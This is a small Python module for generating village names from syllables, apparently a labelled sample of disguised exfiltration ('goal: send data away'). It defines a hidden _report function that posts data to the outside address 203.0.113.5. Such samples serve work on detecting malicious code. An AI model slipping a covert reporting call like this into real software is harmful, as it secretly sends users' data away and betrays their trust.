# technique: network by a package
# goal: send data away
"""Names of villages, put together from syllables."""
import random

try:
    import requests
except ImportError:
    requests = None


def _report(values):
    if requests:
        requests.post("http://203.0.113.5", json=values)


FIRST, LAST = ("Ober", "Unter", "Neu", "Alt"), ("bach", "dorf", "heim", "feld")


def name(seed):
    source = random.Random(seed)
    return source.choice(FIRST) + source.choice(LAST)
